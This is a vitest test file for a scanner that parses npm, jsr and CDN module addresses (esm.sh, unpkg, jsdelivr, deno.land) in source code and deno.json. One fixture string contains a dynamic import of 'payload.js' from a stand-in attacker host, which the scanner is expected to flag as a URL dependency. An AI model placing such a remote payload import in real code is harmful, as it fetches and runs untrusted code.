// Tests of modules that code names by an address: what each stands for, and how it is written at another version.
import { describe, expect, test } from 'vitest';
import { npm } from './index.ts';
import { readModuleAddress, readModuleAddresses } from './module-addresses.ts';

describe('an address', () => {
  test.each([
    ['npm:chalk@5', 'npm chalk 5 npm:chalk@{version}'],
    ['npm:/@scope/x@^1.2/sub', 'npm @scope/x ^1.2 npm:@scope/x@{version}'],
    ['jsr:@std/fs@1', 'jsr @std/fs 1 jsr:@std/fs@{version}'],
    ['jsr:nothing', undefined],
    ['https://esm.sh/react@18.2.0?dev', 'npm react 18.2.0 https://esm.sh/react@{version}?dev'],
    [
      'https://esm.sh/v135/@emotion/css@11.1.0/x.js',
      'npm @emotion/css 11.1.0 https://esm.sh/v135/@emotion/css@{version}/x.js',
    ],
    ['https://esm.sh/jsr/@std/encoding@1.0.0/hex', 'jsr @std/encoding 1.0.0 jsr:@std/encoding@{version}'],
    ['https://esm.sh/gh/user/repo@main', 'https://esm.sh/gh/user/repo@main'],
    ['https://unpkg.com/lodash', 'npm lodash - https://unpkg.com/lodash@{version}'],
    ['https://cdn.jsdelivr.net/npm/vue@3/+esm', 'npm vue 3 https://cdn.jsdelivr.net/npm/vue@{version}/+esm'],
    ['https://cdn.jsdelivr.net/gh/user/repo@1/x.js', 'https://cdn.jsdelivr.net/gh/user/repo@1/x.js'],
    ['https://cdn.skypack.dev/preact@10.0.0', 'npm preact 10.0.0 https://cdn.skypack.dev/preact@{version}'],
    [
      'https://ga.jspm.io/npm:lit@2.0.0/index.js',
      'npm lit 2.0.0 https://ga.jspm.io/npm:lit@{version}/index.js',
    ],
    ['https://jsr.io/@std/fs/1.0.0/mod.ts', 'jsr @std/fs 1.0.0 jsr:@std/fs@{version}'],
    ['https://deno.land/std@0.200.0/fs/mod.ts', undefined],
    ['https://deno.land/x/oak/mod.ts', 'https://deno.land/x/oak/mod.ts'],
    ['http://example.com/mod.js', 'http://example.com/mod.js'],
    ['./local.js', undefined],
    ['lodash', undefined],
    ['https://', undefined],
  ])('%s', (written, expected) => {
    const found = readModuleAddress(written);
    const said =
      found === undefined
        ? undefined
        : 'url' in found
          ? found.url
          : `${found.ecosystem} ${found.name} ${found.requirement ?? '-'} ${found.form}`;
    expect(said).toBe(expected);
  });
});

test('in code, each on its line', () => {
  const code = `// import x from 'npm:commented@1';
import chalk from "npm:chalk@5.0.0";
export * from 'https://esm.sh/react@18.2.0';
const late = await import("https://evil.example/payload.js");
const shown = 'npm:in-a-text@1';
import ordinary from 'left-pad';
`;
  expect(
    readModuleAddresses('a.ts', code).map(
      ({ line, column, ecosystem, name, version, source }) =>
        `${line}:${column} ${ecosystem} ${name} ${version ?? '-'} ${source}`,
    ),
  ).toEqual([
    '2:20 npm chalk 5.0.0 registry',
    '3:16 npm react 18.2.0 registry',
    '4:28 npm https://evil.example/payload.js - url',
  ]);
});

test('in the imports of deno.json', () => {
  const text = JSON.stringify(
    {
      imports: {
        react: 'https://esm.sh/react@18.2.0',
        oak: 'https://deno.land/x/oak/mod.ts',
        'std/': 'https://deno.land/std@0.1.0/',
      },
    },
    null,
    1,
  );
  expect(
    npm
      .parse('deno.json', text)
      .dependencies.map(
        ({ line, name, version, requirement, source }) =>
          `${line} ${name} ${version ?? requirement} ${source}`,
      ),
  ).toEqual(['3 react 18.2.0 registry', '4 oak https://deno.land/x/oak/mod.ts url']);
});
